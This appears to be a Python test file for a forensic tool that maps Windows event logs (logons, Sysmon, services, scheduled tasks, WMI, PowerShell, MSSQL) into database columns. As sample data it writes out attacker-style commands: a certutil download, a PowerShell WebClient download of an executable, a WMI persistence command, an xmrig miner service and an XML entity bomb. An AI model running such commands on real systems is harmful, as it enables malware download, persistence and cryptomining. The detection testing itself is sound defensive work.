"""The shared Windows mapping: which event a record is and which fields fill which columns."""

from __future__ import annotations

import datetime as dt
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from deminer.model import TABLES
from deminer.scenarios import win_events as gen
from deminer.sources import windows_events as we


def row(ev: gen.Event, host: str | None = None, fields: dict[str, Any] | None = None) -> dict[str, Any]:
    return we.event_row(
        channel=ev.channel, provider=ev.provider, event_id=ev.event_id, record_id=ev.record_id,
        computer=ev.computer, ts=ev.time, user_sid=ev.user_sid,
        fields=fields if fields is not None else gen._fields(ev), source="Security.xml",
        host=host, raw=gen.to_xml(ev),
    )


def data(r: dict[str, Any]) -> dict[str, Any]:
    parsed: dict[str, Any] = orjson.loads(r["data"])
    return parsed


def test_every_mapping_fills_real_columns_from_named_fields() -> None:
    columns = set(TABLES["events"].names)
    for key, spec in we.MAPPINGS.items():
        assert set(spec.columns) | set(spec.const) <= columns, key
        assert spec.event and spec.event.islower(), key
        for names in list(spec.columns.values()) + list(spec.extras.values()):
            assert all(n and n[0].isalpha() for n in names.split("|")), key


def test_failed_logon_keeps_the_specific_status_lower_case() -> None:
    r = row(gen.logon(False, user="administrator", ip="203.0.113.77", port=50249, sub_status="0xC000006A"))
    assert r["event"] == "logon_failure" and r["event_id"] == 4625 and r["channel"] == "Security"
    assert (r["user"], r["src_ip"], r["src_port"], r["logon_type"]) == (
        "administrator", "203.0.113.77", 50249, 3)
    assert r["status"] == "0xc000006a"
    assert r["program"] == "Microsoft-Windows-Security-Auditing"
    assert "process" not in r                                     # ProcessName "-" is no process
    d = data(r)
    assert d["TargetDomainName"] == "CORP" and d["failure_reason"] == "%%2313"
    assert d["SubStatus"] == "0xC000006A"                         # the field itself is kept as found


def test_failed_logon_without_substatus_falls_back_to_status() -> None:
    ev = gen.logon(False, sub_status="0x0")
    assert row(ev)["status"] == "0xc000006d"


def test_successful_logon_reports_logon_process_and_target_logon() -> None:
    r = row(gen.logon(True, user="alice", ip="::1", logon_type=10))
    assert (r["event"], r["user"], r["logon_type"], r["status"]) == ("logon_success", "alice", 10, "NtLmSsp")
    assert r["src_ip"] == "::1"                                   # loopback kept as found
    assert data(r)["target_logon_id"] == "0x2a9f1c3"


def test_dash_address_is_null() -> None:
    r = row(gen.logon(False, ip="-"))
    assert "src_ip" not in r and data(r)["IpAddress"] == "-"


def test_host_comes_from_computer_unless_the_user_gives_one() -> None:
    ev = gen.logon(computer="WS01.Corp.Example")
    assert row(ev)["host"] == "ws01.corp.example"
    assert row(ev, host="victim-7")["host"] == "victim-7"


def test_process_creation_hex_pid_parent_and_creator() -> None:
    r = row(gen.process_creation(pid=0x1A2C, user="alice"))
    assert r["event"] == "process_start" and r["pid"] == 0x1A2C
    assert r["process"] == r"C:\Windows\System32\cmd.exe"
    assert r["command"].startswith("cmd.exe /c")
    assert r["user"] == "alice"                                   # TargetUserName "-" → creator
    d = data(r)
    assert d["parent_process"] == r"C:\Windows\System32\services.exe" and d["subject_logon_id"] == "0x2a9f1c3"


def test_service_install_names_service_image_and_installer() -> None:
    r = row(gen.service_install(name="WinSysUpd", image_path=r"C:\Windows\Temp\xmrig.exe --donate-level 1"))
    assert r["event"] == "service_installed" and r["channel"] == "System"
    assert r["process"] == r["command"] == r"C:\Windows\Temp\xmrig.exe --donate-level 1"
    assert r["user"] == "S-1-5-21-1-2-3-500"
    d = data(r)
    assert (d["service_name"], d["service_account"]) == ("WinSysUpd", "LocalSystem")


def test_scheduled_task_command_comes_from_the_task_xml() -> None:
    r = row(gen.task_created(command=r"C:\Windows\System32\cmd.exe", arguments="/c certutil -urlcache -f x"))
    assert r["event"] == "task_created" and r["user"] == "alice"
    assert r["command"] == r"C:\Windows\System32\cmd.exe /c certutil -urlcache -f x"
    d = data(r)
    assert d["task_name"] == r"\Microsoft\Windows\Maintenance\SysUpd" and d["task_run_as"] == "S-1-5-18"


def test_task_xml_with_a_dtd_is_refused_not_expanded() -> None:
    bomb = ('<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
            "<Task><Actions><Exec><Command>&b;</Command></Exec></Actions></Task>")
    r = row(gen.task_created(content=bomb))
    assert "command" not in r
    assert "DTD" in data(r)["task_content_error"]


def test_task_xml_broken_is_reported_in_data() -> None:
    r = row(gen.task_created(content="<Task><Actions><Exec><Command>x</Exec>"))
    assert "command" not in r and "not well-formed" in data(r)["task_content_error"]


def test_sysmon_network_connection_columns() -> None:
    r = row(gen.sysmon_network(dst_ip="198.51.100.23", dst_port=4444))
    assert r["event"] == "network_connection"
    assert (r["src_ip"], r["src_port"], r["dst_ip"], r["dst_port"]) == (
        "10.0.0.15", 49822, "198.51.100.23", 4444)
    assert "dst_host" not in r                                    # DestinationHostname "-"
    assert (r["pid"], r["user"]) == (7212, "CORP\\alice")


def test_sysmon_process_and_dns() -> None:
    p = row(gen.sysmon_process())
    assert p["event"] == "process_start" and p["command"].endswith("-u 4Abc")
    assert data(p)["parent_command"] == "cmd.exe /c start svchosts.exe"
    d = row(gen.sysmon_dns(query="pool.minexmr.com"))
    assert d["event"] == "dns_query" and data(d)["query_name"] == "pool.minexmr.com"
    assert data(d)["answers"] == "::ffff:198.51.100.23;"


def test_sysmon_file_created_has_no_command() -> None:
    ev = gen.Event(*gen.SYSMON, 11, {"Image": r"C:\x.exe", "ProcessId": "12",
                                     "TargetFilename": r"C:\Users\Public\svchosts.exe"})
    r = row(ev)
    assert r["event"] == "file_created" and "command" not in r
    assert data(r)["target_filename"] == r"C:\Users\Public\svchosts.exe"


def test_script_block_text_is_the_command() -> None:
    text = "$w = New-Object Net.WebClient\n$w.DownloadFile('http://x/m.exe', \"$env:TEMP\\m.exe\")"
    r = row(gen.script_block(text))
    assert r["event"] == "powershell_script" and r["command"] == text


def test_log_cleared_from_user_data() -> None:
    r = row(gen.log_cleared(user="alice"))
    assert (r["event"], r["user"], r["channel"]) == ("log_cleared", "alice", "Security")


def test_rdp_logon_is_an_interactive_remote_logon() -> None:
    r = row(gen.rdp_logon(address="203.0.113.50"))
    assert (r["event"], r["logon_type"], r["src_ip"], r["user"]) == (
        "logon_success", 10, "203.0.113.50", "CORP\\alice")
    rcm = gen.Event("Microsoft-Windows-TerminalServices-RemoteConnectionManager", "{0}",
                    "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational", 1149,
                    user_data=("EventXML", "Event_NS",
                               {"Param1": "bob", "Param2": "CORP", "Param3": "192.0.2.4"}))
    assert (row(rcm)["user"], row(rcm)["src_ip"], row(rcm)["logon_type"]) == ("bob", "192.0.2.4", 10)


def test_wmi_binding_extracts_the_consumer_command() -> None:
    r = row(gen.wmi_binding(command=r'powershell.exe -nop -c "iex(gc C:\ProgramData\u.ps1)"'))
    assert r["event"] == "wmi_subscription"
    assert r["command"] == r'powershell.exe -nop -c "iex(gc C:\ProgramData\u.ps1)"'
    d = data(r)
    assert d["consumer"] == 'CommandLineEventConsumer="Updater"' and d["filter"] == "Updater"
    assert d["filter_query"].startswith("SELECT * FROM __InstanceModificationEvent")


def test_unknown_events_keep_everything_for_sigma() -> None:
    ev = gen.Event(*gen.SECURITY, 4673, {"ObjectServer": "Security", "PrivilegeList": "SeTcbPrivilege"})
    r = row(ev)
    assert (r["event"], r["event_id"], r["channel"]) == ("windows_event", 4673, "Security")
    assert data(r) == {"ObjectServer": "Security", "PrivilegeList": "SeTcbPrivilege"}


def test_unnamed_events_still_fill_address_columns() -> None:
    wfp = gen.Event(*gen.SECURITY, 5156, {"ProcessID": "3108", "Application": r"\device\x\agent.exe",
                                          "SourceAddress": "172.18.39.5", "SourcePort": "56581",
                                          "DestAddress": "168.63.129.16", "DestPort": "80"})
    r = row(wfp)
    assert r["event"] == "windows_event"
    assert (r["src_ip"], r["src_port"], r["dst_ip"], r["dst_port"], r["pid"]) == (
        "172.18.39.5", 56581, "168.63.129.16", 80, 3108)


def test_provider_decides_before_channel() -> None:
    # Application log: EventSystem also writes an event 4625 — it is not a failed logon.
    ev = gen.Event("Microsoft-Windows-EventSystem", "{0}", "Application", 4625, ["86400", "x"])
    assert row(ev)["event"] == "windows_event"
    # Forwarded events keep their provider, so they still map.
    fwd = gen.logon(False)
    fwd.channel = "ForwardedEvents"
    assert row(fwd)["event"] == "logon_failure"
    # Exports that lost the provider name still map by (any-case) channel.
    assert we.lookup(None, "security", 4625).event == "logon_failure"
    assert we.lookup(None, None, 4625).event == "windows_event"


def test_raw_is_capped() -> None:
    big = gen.script_block("A" * 50_000)
    r = row(big)
    assert len(r["raw"]) == we.RAW_CAP and len(r["command"]) == 50_000


def test_parse_time_variants() -> None:
    want = dt.datetime(2024, 3, 5, 2, 14, 7, 123456)
    assert we.parse_time("2024-03-05T02:14:07.1234567Z") == want
    assert we.parse_time("2024-03-05T04:14:07.123456+02:00") == want
    assert we.parse_time("garbage") is None and we.parse_time(None) is None and we.parse_time("") is None


def test_to_int_accepts_windows_spellings() -> None:
    assert [we.to_int(v) for v in ("0x1A2C", "4444", 7, "-", "abc", None, True)] == [
        0x1A2C, 4444, 7, None, None, None, None]


_values = st.one_of(st.none(), st.text(max_size=30), st.integers(-(2**70), 2**70), st.booleans(),
                    st.sampled_from(["-", "", "0x1f", "::1", "0xC000006A"]))


@settings(max_examples=300, deadline=None)
@given(event_id=st.sampled_from([*sorted({k[1] for k in we.MAPPINGS}), 1, 99999]),
       provider=st.sampled_from(["Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Sysmon",
                                 "Service Control Manager", "Microsoft-Windows-WMI-Activity", "x", ""]),
       fields=st.dictionaries(st.sampled_from(["TargetUserName", "IpAddress", "IpPort", "LogonType",
                                               "NewProcessId", "ProcessId", "SubStatus", "Status",
                                               "TaskContent", "PossibleCause", "CommandLine", "Image",
                                               "SourcePort", "Param3", "junk\x00\u202e"]), _values))
def test_any_field_values_give_a_well_typed_row(event_id: int, provider: str, fields: dict[str, Any]) -> None:
    r = we.event_row(channel="Security", provider=provider, event_id=event_id, record_id=1, computer="H",
                     ts=None, user_sid=None, fields=dict(fields), source="s", host=None, raw="r")
    for column in we.INT_COLUMNS:
        assert r.get(column) is None or isinstance(r[column], int)
    for column in ("user", "src_ip", "process", "command", "status", "dst_host"):
        assert r.get(column) is None or (isinstance(r[column], str) and r[column] not in ("-", ""))
    assert r["data"] is None or isinstance(orjson.loads(r["data"]), dict)


@pytest.mark.parametrize("ev", gen.intrusion(), ids=lambda e: f"{e.event_id}")
def test_the_demo_intrusion_maps_to_named_events(ev: gen.Event) -> None:
    assert row(ev)["event"] != "windows_event"


def _mssql(event_id: int, strings: list[str], provider: str = "MSSQLSERVER") -> dict[str, Any]:
    return row(gen.Event(provider, "", "Application", event_id, strings, computer="SQL01"))


def test_mssql_failed_login_names_account_reason_and_client() -> None:
    r = _mssql(18456, ["sa", " Reason: Password did not match that for the login provided.",
                       " [CLIENT: 203.0.113.9]"])
    assert (r["event"], r["user"], r["src_ip"], r["status"]) == ("logon_failure", "sa", "203.0.113.9",
                                                                 "bad_password")
    assert data(r)["reason"].startswith("Reason: Password did not match")
    assert data(r)["service"] == "mssql" and r["host"] == "sql01"
    r = _mssql(18456, ["nosuch", " Reason: Could not find a login matching the name provided.",
                       " [CLIENT: <local machine>]"], provider="MSSQL$SQLEXPRESS")
    assert (r["event"], r["status"], r.get("src_ip")) == ("logon_failure", "invalid_user", None)


def test_mssql_successful_logins_are_logons_with_their_method() -> None:
    sql = _mssql(18454, ["sa", " [CLIENT: 10.5.1.10]"])
    assert (sql["event"], sql["user"], sql["src_ip"], sql["status"]) == (
        "logon_success", "sa", "10.5.1.10", "sql_login")
    win = _mssql(18453, ["CORP\\svc_backup", " [CLIENT: 10.5.1.20]"])
    assert (win["event"], win["status"], win["src_ip"]) == ("logon_success", "windows_login", "10.5.1.20")
    # the same event id from another provider is not a SQL login
    other = row(gen.Event("SomeApp", "", "Application", 18456, ["x", "[CLIENT: 1.2.3.4]"]))
    assert other["event"] == "windows_event" and "src_ip" not in other
